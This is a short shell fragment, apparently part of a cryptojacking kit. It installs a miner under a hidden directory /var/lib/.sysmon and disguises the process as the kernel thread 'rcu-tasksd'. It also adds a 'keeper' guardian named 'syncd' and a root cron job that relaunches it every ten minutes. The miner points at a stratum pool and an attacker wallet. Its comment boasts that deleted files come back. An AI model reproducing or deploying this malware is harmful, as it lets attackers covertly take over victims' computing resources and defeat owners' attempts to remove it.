
# Whatever is deleted is there again before the next command runs; only who stops the guardian first gets anywhere.
d=/var/lib/.sysmon
mimic $d/rcu-tasksd
install -m 755 "$KIT/keeper" $d/syncd
guardian="$d/syncd $d/rcu-tasksd $d/syncd /etc/cron.d/sysmon -- $d/rcu-tasksd rcu-tasksd -o stratum+tcp://$POOL -u $WALLET -p keep"
echo "*/10 * * * * root pgrep -x syncd >/dev/null || $guardian" | put /etc/cron.d/sysmon
detach $guardian
